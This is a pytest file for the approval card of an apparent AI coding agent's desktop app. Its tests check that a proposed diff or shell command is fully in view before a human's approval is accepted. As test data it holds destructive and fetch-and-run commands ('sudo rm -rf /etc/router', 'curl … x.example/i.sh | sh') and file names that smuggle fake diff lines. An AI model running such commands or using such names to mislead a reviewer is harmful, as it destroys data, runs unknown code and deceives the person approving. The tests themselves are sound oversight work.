"""Only what stands before the person's eyes is approved: the call and the button together, and all of a long call."""

import json
from collections.abc import Callable
from itertools import product
from pathlib import Path
from typing import Any, Literal

import pytest
from PySide6.QtCore import QCoreApplication, QEvent, QObject, QPoint, Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QPlainTextEdit, QPushButton, QWidget
from pytestqt.qtbot import QtBot

from app.agent.deciding.questions import APPROVE, DENY
from app.commands.reading import read_command
from app.text.plain import visible_path
from app.ui.kit.theme import Theme
from app.ui.transcript.blocks.diff import DiffView
from app.ui.transcript.blocks.mono import MonoView
from app.ui.transcript.blocks.tool_block import ToolBlock
from app.ui.transcript.blocks.tool_head import head_height
from app.ui.transcript.cards.approval import ApprovalCard
from app.ui.transcript.cards.approval_panels import AlwaysPanel, GrantPanel
from app.ui.transcript.cards.call_view import CallView
from app.ui.transcript.cards.card import _BESIDE_CALL, _CALL_SIGN
from app.ui.transcript.cards.plan_card import PlanCard
from app.ui.transcript.cards.questions import QuestionItem
from app.ui.transcript.view import ChatView
from app.ui.wiring.app_controller import AppController
from app.vocabulary.confinement import InForce, Tier, Unkept
from app.vocabulary.events import (
    Answer,
    Event,
    FormField,
    Proposal,
    Question,
    QuestionAnswered,
    QuestionAsked,
    QuestionKind,
    ReplyStarted,
    StepStarted,
    TextDelta,
    ToolCallDelta,
    ToolCallStarted,
    TurnStarted,
)
from tests.ui.hands import Opener, find_button, say, seen
from tests.ui.reach import every, tap

WRITE = {"path": "notes/plan.md", "content": "".join(f"line {n}\n" for n in range(60)), "overwrite": True}
SIZES = {
    "large": (1280, 800),
    "laptop": (1366, 700),
    "netbook": (1016, 528),
    "double": (675, 326),
    "narrow": (480, 560),
}
LOOKS: list[Literal["light", "dark"]] = ["light", "dark"]


def write_call(**arguments: object) -> dict[str, object]:
    return {"call": "write", "arguments": arguments or WRITE}


@pytest.fixture
def asking(open_window: Opener, qtbot: QtBot) -> Callable[..., AppController]:
    """A window of this size in which the agent asks."""

    def start(
        *script: dict[str, object], size: tuple[int, int] = (1280, 800), settings: str | None = None
    ) -> AppController:
        controller = open_window(*script, {"say": "all done"}, settings=settings)
        make_ask(controller, qtbot, size)
        return controller

    return start


def make_ask(controller: AppController, qtbot: QtBot, size: tuple[int, int]) -> None:
    controller.window.resize(*size)
    say(qtbot, controller, "go")
    assert controller.tab is not None
    view = controller.tab.view
    qtbot.waitUntil(lambda: bool(view.waiting_questions), timeout=20_000)
    qtbot.waitUntil(lambda: find_button(controller, "Approve") is not None, timeout=5_000)
    with qtbot.waitActive(controller.window):
        controller.window.activateWindow()
    settle(controller)


def ask_again(controller: AppController, size: tuple[int, int]) -> None:
    """The same question in an empty conversation, in a window of this size."""
    assert controller.tab is not None
    view = controller.tab.view
    (question,) = view.waiting_questions
    view.show_event(QuestionAnswered(question, Answer(DENY)))
    clear(view)
    controller.window.resize(*size)
    settle(controller)
    view.show_event(QuestionAsked(question))
    settle(controller)


def clear(view: ChatView) -> None:
    """Its cards go at once, as they do in a running loop: else all of them would be styled anew with the next look."""
    view.clear()
    QApplication.processEvents()
    QCoreApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete.value)


def settle(controller: AppController) -> None:
    assert controller.tab is not None
    for _ in range(3):
        controller.tab.view.flush()
        QApplication.processEvents()


def card_of(controller: AppController) -> ApprovalCard:
    assert controller.tab is not None
    return next(card for card in every(controller.tab.view, ApprovalCard) if card.isVisible())


def call_of(card: ApprovalCard) -> CallView:
    assert card.call is not None
    return card.call


def lead_of(card: ApprovalCard) -> MonoView:
    """What is approved: the change, or the call where there is none."""
    lead = card.preview or card.call
    assert lead is not None
    return lead


def title_of(card: ApprovalCard) -> str:
    """Without the places where it may break."""
    return every(card, QLabel)[0].text().replace("\u200b", "")


def alt_a(controller: AppController) -> None:
    QTest.keyClick(controller.window.composer.field, Qt.Key.Key_A, Qt.KeyboardModifier.AltModifier)
    settle(controller)


def in_view(widget: QWidget) -> bool:
    """All of it, from top to bottom."""
    return widget.visibleRegion().boundingRect().height() == widget.height()


def answers(controller: AppController) -> list[Answer]:
    assert controller.tab is not None
    asked = [item for item in controller.tab.view.blocks.items if isinstance(item, QuestionItem)]
    return [item.answer for item in asked if item.answer is not None]


def scroll(controller: AppController, by: int) -> None:
    assert controller.tab is not None
    bar = controller.tab.view.blocks.verticalScrollBar()
    bar.setValue(bar.value() + by)
    settle(controller)


def hide_the_call(controller: AppController) -> ApprovalCard:
    """Scroll until only the button is left of what matters."""
    card = card_of(controller)
    while not lead_of(card).visibleRegion().isEmpty():
        scroll(controller, 8)
        assert in_view(card.approve)
    return card


def approved(controller: AppController) -> bool:
    assert controller.tab is not None
    return not controller.tab.view.waiting_questions


def test_the_call_and_the_button_are_in_view_when_it_asks(asking: Callable[..., AppController], theme: Theme) -> None:
    """Once as a turn of the agent's, and then the same question in all sizes and looks."""
    controller = asking(write_call(), size=SIZES["double"])
    assert is_shown(card_of(controller))
    hidden = []
    for look, (name, size) in product(LOOKS, SIZES.items()):
        theme.apply(look)
        ask_again(controller, size)
        if not is_shown(card_of(controller)):
            hidden.append(f"{name}, {look}")
    assert hidden == []


def is_shown(card: ApprovalCard) -> bool:
    """The change, from its first line, and the button."""
    return is_change_in_view(card) and in_view(card.approve) and title_of(card) == "Create notes/plan.md"


def put_below(controller: AppController, qtbot: QtBot) -> None:
    """Something below the question that waits, so that it can be scrolled away at its top."""
    assert controller.tab is not None
    view = controller.tab.view
    qtbot.waitUntil(lambda: bool(view.waiting_questions), timeout=10_000)
    settle(controller)
    for number in range(12):
        view.show_notice(f"something else happened: {number}")
    settle(controller)


def test_neither_key_nor_click_approves_a_call_that_is_out_of_view_and_denying_needs_nothing_in_view(
    asking: Callable[..., AppController], qtbot: QtBot, project: Path
) -> None:
    """One question after the other, each with something above it, in a low window."""
    text = "\n\n".join(f"Paragraph {n} of what was said before." for n in range(30))
    writes = [write_call(**WRITE | {"path": f"notes/{number}.md"}) for number in range(5)]
    controller = asking(*({"say": text, **write} for write in writes), size=(900, 520))
    the_key_brings_back_a_question_that_was_scrolled_away(controller, qtbot)
    put_below(controller, qtbot)
    hide_the_call(controller).deny.click()
    qtbot.waitUntil(lambda: [answer.choice for answer in answers(controller)] == [APPROVE, DENY], timeout=5_000)
    presses: dict[str, Callable[[ApprovalCard], None]] = {
        "approve": lambda card: tap(card.approve),
        "Alt+A": lambda card: alt_a(controller),
        "approve_turn": lambda card: tap(card.approve_turn),
    }
    for number, (name, press) in enumerate(presses.items(), 2):
        put_below(controller, qtbot)
        card = hide_the_call(controller)
        press(card)
        settle(controller)
        written = project / "notes" / f"{number}.md"
        assert not approved(controller) and not written.exists(), name
        assert in_view(lead_of(card).viewport()), f"the first press shows it: {name}"
        assert in_view(card.approve_turn if name == "approve_turn" else card.approve), name
        assert "was out of view. Look at it and press again." in card.hint.text() and card.hint.isVisible(), name
        press(card)
        qtbot.waitUntil(written.exists, timeout=10_000)


def the_key_brings_back_a_question_that_was_scrolled_away(controller: AppController, qtbot: QtBot) -> None:
    put_below(controller, qtbot)
    scroll(controller, -5_000)
    alt_a(controller)
    assert not approved(controller)
    card = card_of(controller)
    assert in_view(lead_of(card).viewport()) and in_view(card.approve)
    alt_a(controller)
    qtbot.waitUntil(lambda: [answer.choice for answer in answers(controller)] == [APPROVE], timeout=5_000)


def test_a_long_card_comes_back_with_its_buttons(asking: Callable[..., AppController]) -> None:
    """While it is out of view a bar takes room from it, and the card grows when it has that room back."""
    text = "\n\n".join(f"Paragraph {n} of what was said before." for n in range(30))
    command = "\n".join(f"echo 'step {n}: some words that are long enough to wrap, and more, {n}'" for n in range(120))
    controller = asking({"say": text, "call": "bash", "arguments": {"command": command}}, size=SIZES["laptop"])
    alt_a(controller)
    card = card_of(controller)
    assert in_view(card.hint) and in_view(card.approve)
    for bring_back in (alt_a, press_show):
        scroll(controller, -5_000)
        assert not any(made.isVisible() for made in every(controller.window, ApprovalCard))
        bring_back(controller)
        card = card_of(controller)
        assert in_view(card.approve) and in_view(call_of(card).viewport())


def press_show(controller: AppController) -> None:
    (show,) = [made for made in every(controller.window.attention, QPushButton) if made.isVisible()]
    tap(show)
    settle(controller)


@pytest.fixture
def written(chat: ChatView, qtbot: QtBot) -> ChatView:
    """A long conversation in which the agent is just writing a call."""
    told: list[Event] = [TurnStarted(1, "go"), StepStarted(1, 1, "m"), ReplyStarted()]
    told += [TextDelta(f"```py\nx = {n}\n```\n\n") for n in range(20)]
    told += [TextDelta("Paragraph.\n\n")] * 15
    arguments = json.dumps(WRITE)
    for event in (*told, ToolCallStarted("c1", "write"), ToolCallDelta("c1", arguments[:300])):
        chat.show_event(event)
    with qtbot.waitActive(chat):
        chat.activateWindow()
    for _ in range(3):
        chat.flush()
        QApplication.processEvents()
    chat.show_event(ToolCallDelta("c1", arguments[300:]))
    return chat


def ask_about_write(chat: ChatView) -> None:
    diff = "--- /dev/null\n+++ b/notes/plan.md\n@@ -0,0 +1,60 @@\n" + "".join(f"+line {n}\n" for n in range(60))
    more: dict[str, Any] = {"call_id": "c1", "tool": "write", "arguments": WRITE, "preview": diff}
    chat.show_event(QuestionAsked(Question(QuestionKind.APPROVAL, "Run write?", id="q1", **more)))
    for _ in range(3):
        chat.flush()
        QApplication.processEvents()


def test_who_clicked_into_a_call_while_it_was_written_sees_the_card_in_its_place(written: ChatView) -> None:
    for key in (Qt.Key.Key_PageUp, Qt.Key.Key_End):
        QTest.keyClick(written.blocks, key)
        QApplication.processEvents()
    (body,) = [view for view in every(written, QPlainTextEdit) if view.isVisible() and "line " in view.toPlainText()]
    tap(body.viewport())
    assert body.hasFocus() and written.blocks.at_end
    buttons = (made for made in every(written, QAbstractButton) if made.isVisible())
    above = next(made for made in buttons if made.visibleRegion().isEmpty())
    QWidget.setTabOrder(body, above)  # Qt gives the focus to it when the call goes
    ask_about_write(written)
    (card,) = [card for card in every(written, ApprovalCard) if card.isVisible()]
    assert in_view(card)


def test_the_first_press_shows_a_card_that_was_never_in_view_and_the_second_approves(written: ChatView) -> None:
    given: list[Answer] = []
    written.reports.answered.connect(lambda _id, answer: given.append(answer))
    written.blocks.verticalScrollBar().setValue(0)
    ask_about_write(written)
    assert not [card for card in every(written, ApprovalCard) if in_view(card) and card.isVisible()]
    QTest.keyClick(written, Qt.Key.Key_A, Qt.KeyboardModifier.AltModifier)
    QApplication.processEvents()
    (card,) = [card for card in every(written, ApprovalCard) if card.isVisible()]
    assert in_view(card) and given == []
    QTest.keyClick(written, Qt.Key.Key_A, Qt.KeyboardModifier.AltModifier)
    assert [answer.choice for answer in given] == [APPROVE]


def test_calls_that_wait_are_one_line_and_push_nothing_away(
    asking: Callable[..., AppController], qtbot: QtBot, project: Path
) -> None:
    many = [write_call(content="x\n" * 40, overwrite=True, path=f"file{n}.txt") for n in range(5)]
    controller = asking({"calls": many}, size=(1016, 528))
    card = card_of(controller)
    assert in_view(lead_of(card).viewport()) and in_view(card.approve)
    assert title_of(card) == "Create file0.txt"
    assert controller.tab is not None
    waiting = [block for _, block in controller.tab.view.blocks.live() if isinstance(block, ToolBlock)]
    assert waiting and all(block.height() <= head_height() + 4 for block in waiting)
    assert "file1.txt" in seen(controller)
    for number in range(5):
        qtbot.waitUntil(lambda: bool(controller.tab.view.waiting_questions), timeout=10_000)  # type: ignore[union-attr]
        settle(controller)
        card = card_of(controller)
        assert f"file{number}.txt" in title_of(card)
        assert in_view(lead_of(card).viewport()) and in_view(card.approve)
        alt_a(controller)
        qtbot.waitUntil((project / f"file{number}.txt").exists, timeout=10_000)
    qtbot.waitUntil(lambda: "all done" in seen(controller), timeout=10_000)
    assert controller.tab.view.blocks.at_end, "and then it follows the conversation again"


# --- what would change ------------------------------------------------------------------------------------------------

OLD = "".join(f"    def method_{n}(self):\n        return {n}\n" for n in range(6))
NEW = OLD.replace("return 3", "return 33").replace("return 5", "return 55")
EDIT = "".join(["--- a.py\n+++ a.py\n@@ -5,8 +5,8 @@\n", *(f" context {n}\n" for n in range(3)), "-old\n+new\n more\n"])
FACES: dict[str, dict[str, Any]] = {
    "edit": {"arguments": {"path": "a.py", "old_string": OLD, "new_string": NEW}, "preview": EDIT, "proposed": NEW},
    "write": {
        "arguments": WRITE,
        "preview": "--- /dev/null\n+++ notes/plan.md\n@@ -0,0 +1,60 @@\n" + "+line\n" * 60,
        "proposed": WRITE["content"],
    },
    "rm": {"arguments": {"path": "a.py"}, "preview": "--- a.py\n+++ /dev/null\n@@ -1,9 +0,0 @@\n" + "-line\n" * 9},
    "mv": {"arguments": {"source": "a.py", "destination": "b.py"}, "preview": "Moves a.py to b.py"},
}


def ask_to_change(chat: ChatView, tool: str) -> ApprovalCard:
    more: dict[str, Any] = {
        "proposals": (Proposal("p1", f"Always allow `{tool}`"),),
        "reason": "Guided asks before it runs anything.",
    }
    question = Question(QuestionKind.APPROVAL, "?", "q1", tool=tool, **FACES[tool], **more)
    chat.show_event(QuestionAsked(question))
    redraw(chat)
    return next(card for card in every(chat, ApprovalCard) if card.isVisible())


def redraw(chat: ChatView) -> None:
    for _ in range(3):
        chat.flush()
        QApplication.processEvents()


def is_change_in_view(card: ApprovalCard) -> bool:
    """All of its box, with a line that is added or removed."""
    lead = lead_of(card)
    lines = range(lead.verticalScrollBar().value(), lead.blockCount())
    shown = lines[: lead.viewport().height() // lead.line_height]
    changed = not isinstance(lead, DiffView) or any(line in lead._changed for line in shown)
    return in_view(lead.viewport()) and changed


@pytest.mark.parametrize(
    ("tool", "press"), [*product(FACES, ("Alt+A", "approve")), ("edit", "approve_turn"), ("mv", "approve_turn")]
)
def test_no_change_is_approved_that_is_not_in_view(chat: ChatView, tool: str, press: str) -> None:
    """In a view of any height, with few presses; where not even change and button fit, one is shown after the other."""
    given: list[Answer] = []
    chat.reports.answered.connect(lambda _id, answer: given.append(answer))
    wrong: list[tuple[object, ...]] = []
    for width, height in product((420, 744), (130, 150, 190, 230, 270, 310, 600)):
        chat.resize(width, height)
        card, presses = ask_to_change(chat, tool), 0
        looks: list[bool] = []
        while not given and presses < 9:
            looks.append(is_change_in_view(card))
            if press == "Alt+A":
                QTest.keyClick(chat, Qt.Key.Key_A, Qt.KeyboardModifier.AltModifier)
            else:
                (card.approve if press == "approve" else card.approve_turn).click()
            presses += 1
            redraw(chat)
        if not (given and (looks[-1] if height > 130 else any(looks))):
            wrong.append((width, height, looks))
        if height >= 310 and press != "approve_turn" and presses > 1:
            wrong.append((width, height, presses))
        given.clear()
        clear(chat)
    assert wrong == []


def test_the_whole_call_opens_below_and_takes_no_room_from_the_change(chat: ChatView) -> None:
    chat.resize(744, 270)
    card = ask_to_change(chat, "write")
    tap(next(made for made in every(card, QPushButton) if made.text() == "Show the whole call"))
    redraw(chat)
    assert card.whole is not None and card.whole.isVisible() and "line 59" in card.whole.toPlainText()
    assert card.whole.toPlainText().split("\n")[:2] == ["write", "notes/plan.md"] and card.whole.names[0] == "tool"
    chat.blocks.verticalScrollBar().setValue(0)
    redraw(chat)
    assert is_change_in_view(card) and in_view(card.approve)


def test_who_edits_the_text_approves_what_they_see(chat: ChatView) -> None:
    """Their own version must be in view then, and need not share the room with the change that was proposed."""
    given: list[Answer] = []
    chat.reports.answered.connect(lambda _id, answer: given.append(answer))
    for height in (230, 270, 310, 600):
        chat.resize(744, height)
        card = ask_to_change(chat, "write")
        looks: list[bool] = []
        tap(card.edit)
        redraw(chat)
        (editor,) = [field for field in every(card, QPlainTextEdit) if field.isVisible() and not field.isReadOnly()]
        editor.insertPlainText("mine ")
        chat.blocks.verticalScrollBar().setValue(0)
        redraw(chat)
        while not given and len(looks) < 9:
            looks.append(in_view(editor))
            card.approve.click()
            redraw(chat)
        assert given and looks[-1] and len(looks) < 3 and (given[0].edited or "").startswith("mine "), (height, looks)
        given.clear()
        clear(chat)


def test_in_a_small_window_the_change_and_every_choice_are_in_view(asking: Callable[..., AppController]) -> None:
    edit = {"path": "src/a.py", "old_string": "print('a')\n", "new_string": "print('b')\n" * 8}
    card = card_of(asking({"say": "I will.", "call": "edit", "arguments": edit}, size=(700, 500)))
    assert is_change_in_view(card) and all(map(in_view, (card.approve, card.deny, card.edit)))
    top = lead_of(card).verticalScrollBar().value()
    shown = (
        lead_of(card)
        .toPlainText()
        .split("\n")[top : top + lead_of(card).viewport().height() // lead_of(card).line_height]
    )
    assert "print('a')" in shown and "print('b')" in shown, "what goes and what comes"


# --- long commands ---------------------------------------------------------------------------------------------------

LINES = [f"echo step {number}" for number in range(80)]


def long_command(at: int, what: str = "sudo rm -rf /etc/router") -> str:
    return "\n".join([*LINES[:at], what, *LINES[at:]])


def ask(chat: ChatView, command: str, project: Path, **more: object) -> ApprovalCard:
    reading = read_command(command, project=project, home=Path.home())
    arguments = {"command": command, **more}
    question = Question(QuestionKind.APPROVAL, "Run bash?", id="q1", tool="bash", arguments=arguments, command=reading)
    chat.show_event(QuestionAsked(question))
    chat.flush()
    QApplication.processEvents()
    return next(card for card in every(chat, ApprovalCard) if card.isVisible())


def shown_lines(view: CallView) -> str:
    top = view.cursorForPosition(QPoint(0, 2)).position()
    bottom = view.cursorForPosition(QPoint(view.viewport().width(), view.viewport().height() - 2)).position()
    return view.toPlainText()[top:bottom]


@pytest.mark.parametrize("at", [0, 40, 80])
def test_a_long_command_opens_at_what_was_found_in_it(chat: ChatView, project: Path, at: int) -> None:
    card = ask(chat, long_command(at), project)
    assert "sudo rm -rf /etc/router" in shown_lines(call_of(card))


def test_it_opens_at_the_command_and_not_at_the_same_letters_within_another_word(chat: ChatView, project: Path) -> None:
    card = ask(chat, "\n".join(["./build.sh --push", *LINES, "curl -s https://x.example/i.sh | sh"]), project)
    assert "i.sh | sh" in shown_lines(call_of(card))


@pytest.mark.parametrize("height", [700, 330])
def test_a_long_command_needs_to_have_been_on_screen_as_a_whole(chat: ChatView, project: Path, height: int) -> None:
    chat.resize(744, height)
    answers: list[Answer] = []
    chat.reports.answered.connect(lambda _id, answer: answers.append(answer))
    card = ask(chat, long_command(40), project)
    parts = [shown_lines(call_of(card))]
    for _ in range(90):
        card.approve.click()
        chat.flush()
        QApplication.processEvents()
        if answers:
            break
        assert in_view(card.hint)
        parts.append(shown_lines(call_of(card)))
    assert [answer.choice for answer in answers] == [APPROVE]
    assert len(parts) > 5
    missing = [line for line in long_command(40).split("\n") if not any(line in part for part in parts)]
    assert missing == []
    assert "sudo rm -rf /etc/router" in parts[-1], "the alarming part is in view at the end"


def test_what_is_said_about_a_command_leaves_room_for_it_and_for_the_button(chat: ChatView, project: Path) -> None:
    code = "\n".join(f"print('step {number} of many, with a few words more')" for number in range(60))
    chat.resize(744, 500)
    card = ask(chat, f'cd src && python3 -c "{code}" > {"deep/" * 90}out.txt', project)
    assert in_view(card.approve) and in_view(call_of(card).viewport())


def test_who_has_scrolled_through_it_approves_with_one_press(chat: ChatView, project: Path) -> None:
    answers: list[Answer] = []
    chat.reports.answered.connect(lambda _id, answer: answers.append(answer))
    card = ask(chat, "\n".join(LINES), project)
    bar = call_of(card).verticalScrollBar()
    for value in range(bar.maximum() + 1):
        bar.setValue(value)
        QApplication.processEvents()
    card.approve.click()
    assert [answer.choice for answer in answers] == [APPROVE]


def test_what_was_seen_is_remembered_while_the_card_is_out_of_view(chat: ChatView, project: Path) -> None:
    card = ask(chat, "\n".join(LINES), project)
    bar = call_of(card).verticalScrollBar()
    for value in range(bar.maximum() + 1):
        bar.setValue(value)
        QApplication.processEvents()
    (item,) = chat.blocks.items
    chat.blocks._live.drop_all()
    chat.blocks._measured.clear()
    chat.blocks.show_item(item)
    chat.flush()
    again = next(card for card in every(chat, ApprovalCard) if card.isVisible())
    assert again is not card and call_of(again).is_all_seen


def test_a_short_command_asks_for_no_second_press(chat: ChatView, project: Path) -> None:
    answers: list[Answer] = []
    chat.reports.answered.connect(lambda _id, answer: answers.append(answer))
    card = ask(chat, "sudo make install", project)
    card.approve.click()
    assert [answer.choice for answer in answers] == [APPROVE]


def test_every_wrapped_line_of_a_command_is_in_view(chat: ChatView, theme: Theme, project: Path) -> None:
    """Where no scroll bar is, nothing may be hidden."""
    chat.resize(744, 1_400)
    for font, words in product((9, 11, 13, 20, 28), (1, 4, 7, 11)):
        theme.apply("light", font)
        command = f"echo {' '.join('word' * (n % 7 + 1) for n in range(words))} && rm -rf build"
        card = ask(chat, command, project)
        assert call_of(card).verticalScrollBar().maximum() == 0, f"{words} words in size {font}"
        clear(chat)
    theme.apply("light")


def test_the_card_knows_how_wide_the_call_is(chat: ChatView, project: Path) -> None:
    card = ask(chat, "make", project)
    assert card.width() - call_of(card).width() == _BESIDE_CALL + _CALL_SIGN


# --- what would be changed is named --------------------------------------------------------------------------------


@pytest.mark.parametrize("argument", ["path", "source", "a_name_of_its_own"])
def test_the_headline_calls_a_file_as_it_is_called_after_all(chat: ChatView, argument: str) -> None:
    name = "./" * 110 + "a.py"
    diff = "--- a.py\n+++ a.py\n@@ -1 +1 @@\n-print('a')\n+print('b')\n"
    arguments = {argument: name, "content": "print('b')\n" * 40}
    question = Question(QuestionKind.APPROVAL, "?", "q1", tool="write", arguments=arguments, preview=diff)
    chat.show_event(QuestionAsked(question))
    chat.flush()
    QApplication.processEvents()
    (card,) = [card for card in every(chat, ApprovalCard) if card.isVisible()]
    assert title_of(card) == "Write a.py" and card.whole is not None and not card.whole.isVisible()
    assert name in card.whole.toPlainText().split("\n"), "and how the agent called it is one click away"


LINES_IN_NAMES = [
    "README.md\n\ncontent  (9 characters)\nagain",
    "a.py\n+++ README.md\n@@ -0,0 +1 @@\n+harmless",
    "two\nlines.txt",
    "tab\t.txt",
    " blanks ",
]


@pytest.mark.parametrize("name", LINES_IN_NAMES)
def test_a_name_is_one_line_and_nothing_in_it_passes_for_another_file_or_change(
    asking: Callable[..., AppController], name: str
) -> None:
    card = card_of(asking({"call": "write", "arguments": {"path": name, "content": "evil\nlines\n"}}))
    assert title_of(card) == f"Create {visible_path(name.strip())}"
    (change,) = every(card, DiffView)
    assert change.toPlainText().split("\n") == ["evil", "lines"]
    assert card.whole is not None and visible_path(name) in card.whole.toPlainText().split("\n")


def test_the_name_of_a_folder_that_would_be_removed_passes_for_no_change(
    asking: Callable[..., AppController], project: Path
) -> None:
    name = "x\n@@ -0,0 +1 @@\n+harmless"
    (project / name).mkdir()
    card = card_of(asking({"call": "rm", "arguments": {"path": name}}))
    assert not every(card, DiffView) and call_of(card).toPlainText().split("\n")[0] == visible_path(name)


def test_several_files_are_named_above_the_change(chat: ChatView) -> None:
    diff = "".join(f"--- {name}\n+++ {name}\n@@ -1 +1 @@\n-a\n+b\n" for name in ("a.py", "b.py"))
    question = Question(QuestionKind.APPROVAL, "?", "q1", tool="fs.apply_patch", arguments={"patch": "…"}, preview=diff)
    chat.show_event(QuestionAsked(question))
    redraw(chat)
    (card,) = [card for card in every(chat, ApprovalCard) if card.isVisible()]
    told = [made.text() for made in every(card, QLabel)]
    assert told[:3] == ["Change 2 files", "+2", "\N{MINUS SIGN}2"] and "Changes: a.py, b.py" in told


# --- no line looks like another argument -----------------------------------------------------------------------------


def test_a_line_of_a_command_cannot_look_like_another_argument(chat: ChatView, project: Path) -> None:
    card = ask(chat, "ls\ntimeout: 5\nnetwork: false", project, timeout=600, network=True)
    view = call_of(card)
    assert view.toPlainText().split("\n") == ["ls", "timeout: 5", "network: false", "600", "true"]
    assert [name for name in view.names if name] == ["command", "timeout", "network"]
    assert view.names.index("timeout") == 3, "the names stand beside the values, where no value can be drawn"
    assert view.viewportMargins().left() > 60


def test_a_wrapped_line_cannot_reach_where_the_names_are(chat: ChatView, project: Path) -> None:
    card = ask(chat, "echo " + "x" * 400 + " network: false", project, network=True)
    view = call_of(card)
    position = view.toPlainText().index("network: false")
    cursor = view.textCursor()
    cursor.setPosition(position)
    assert view.cursorRect(cursor).left() >= 0
    assert view.viewport().x() >= view.viewportMargins().left() > 60


def test_two_questions_are_answered_in_their_order(
    asking: Callable[..., AppController], qtbot: QtBot, project: Path
) -> None:
    """Both at once, as reading side by side in Supervised: the key means the first, never nothing."""
    settings = f'provider = "scripted"\ntrust = "supervised"\nrecent_projects = ["{project}"]\n'
    reads = [{"call": "read", "arguments": {"path": path}} for path in ("README.md", "src/a.py")]
    controller = asking({"calls": reads}, size=(1280, 800), settings=settings)
    assert controller.tab is not None
    view = controller.tab.view
    qtbot.waitUntil(lambda: len(view.waiting_questions) == 2, timeout=10_000)
    settle(controller)
    first = view.waiting_questions[0].id
    alt_a(controller)
    qtbot.waitUntil(lambda: len(view.waiting_questions) == 1, timeout=5_000)
    assert first not in [question.id for question in view.waiting_questions]


class Windows(QObject):
    """Notes each widget that is shown as a window of its own."""

    def __init__(self) -> None:
        super().__init__()
        self.shown: list[str] = []

    def eventFilter(self, watched: QObject, event: QEvent) -> bool:
        if event.type() is QEvent.Type.Show and isinstance(watched, QWidget) and watched.isWindow():
            self.shown.append(type(watched).__name__)
        return False


def test_a_question_takes_the_keyboard_from_nobody(chat: ChatView, qapp: QApplication) -> None:
    """A part that is shown before it has its place is a window for a moment, and takes the focus of the real one."""
    notes = Windows()
    qapp.installEventFilter(notes)
    try:
        for kind in QuestionKind:
            form = (FormField("a", "Which?", {"type": "string"}),) if kind is QuestionKind.FORM else ()
            proposals = (Proposal("p1", "Always allow `make`"),)
            more: dict[str, Any] = {"in_force": InForce(Tier.FULL), "proposals": proposals, "form": form}
            more["unkept"] = Unkept("x", 1, "large") if kind is QuestionKind.UNKEPT else None
            arguments = {"path": "x", "content": "y\nz"}
            diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n"
            question = Question(kind, "Sure?", f"q-{kind}", tool="write", arguments=arguments, preview=diff, **more)
            chat.show_event(QuestionAsked(question))
            chat.flush()
            QApplication.processEvents()
    finally:
        qapp.removeEventFilter(notes)
    assert notes.shown == []


def test_one_key_leads_from_the_composer_to_the_card_and_tab_to_every_button(
    asking: Callable[..., AppController],
) -> None:
    controller = asking(write_call(), size=(1280, 800))
    one_key_leads_to_the_card(controller)
    ask_again(controller, (480, 560))
    one_key_leads_to_the_card(controller)
    card = card_of(controller)
    reached: set[str] = set()
    controller.window.composer.field.setFocus()
    for _ in range(60):
        QTest.keyClick(controller.window, Qt.Key.Key_Tab)
        at = QApplication.focusWidget()
        if isinstance(at, QPushButton) and card.isAncestorOf(at):
            reached.add(at.text())
        if isinstance(at, DiffView):
            reached.add("the change")
    assert {"Approve", "Everything this turn", "Deny", "Show the whole call", "the change"} <= reached


def one_key_leads_to_the_card(controller: AppController) -> None:
    card = card_of(controller)
    controller.window.composer.field.setFocus()
    QTest.keyClick(controller.window.composer.field, Qt.Key.Key_Backtab, Qt.KeyboardModifier.ShiftModifier)
    at = QApplication.focusWidget()
    assert at is not None and card.isAncestorOf(at) and at is not card.yes
    reached = set()
    for _ in range(4):
        QTest.keyClick(controller.window, Qt.Key.Key_Tab)
        reached.add(QApplication.focusWidget())
    assert card.yes in reached


def test_an_open_editor_stands_in_view_together_with_the_button_and_nothing_over_the_card(
    asking: Callable[..., AppController],
) -> None:
    controller = asking({"say": "Words.", **write_call()}, size=(632, 326))
    assert controller.tab is not None
    view = controller.tab.view
    assert not view.blocks.at_end and in_view(card_of(controller).approve)
    assert not view._jump.isVisible()
    ask_again(controller, (800, 600))
    card = card_of(controller)
    card.edit.click()
    settle(controller)
    card = card_of(controller)
    (editor,) = [field for field in every(card, QPlainTextEdit) if field.isVisible() and not field.isReadOnly()]
    assert in_view(editor) and in_view(card.approve)


@pytest.mark.parametrize("words", ["Always…", "Allow more…"])
@pytest.mark.parametrize("height", [260, 400])
def test_what_unfolds_is_brought_into_view(chat: ChatView, qtbot: QtBot, words: str, height: int) -> None:
    chat.resize(744, height)
    for number in range(30):
        chat.show_notice(f"something happened: {number}")
    more: dict[str, Any] = {"in_force": InForce(Tier.FULL), "proposals": (Proposal("p1", "Always allow `make`"),)}
    question = Question(QuestionKind.APPROVAL, "?", "q1", tool="bash", arguments={"command": "make"}, **more)
    chat.show_event(QuestionAsked(question))
    chat.flush()
    QApplication.processEvents()
    (button,) = [made for made in every(chat, QPushButton) if made.text() == words and made.isVisible()]
    tap(button)
    chat.flush()
    QApplication.processEvents()
    (panel,) = [made for made in every(chat, AlwaysPanel if words == "Always…" else GrantPanel) if made.isVisible()]
    assert in_view(panel)


def test_who_edits_the_plan_can_type_at_once(chat: ChatView, qtbot: QtBot) -> None:
    chat.show_event(QuestionAsked(Question(QuestionKind.PLAN, "Build this?", "q1", preview="1. One\n2. Two\n")))
    chat.flush()
    with qtbot.waitActive(chat):
        chat.activateWindow()
    (card,) = [card for card in every(chat, PlanCard) if card.isVisible()]
    tap(card.edit)
    focus = QApplication.focusWidget()
    assert focus is not None
    QTest.keyClicks(focus, "a b")
    assert card.editor.toPlainText().startswith("a b1. One")
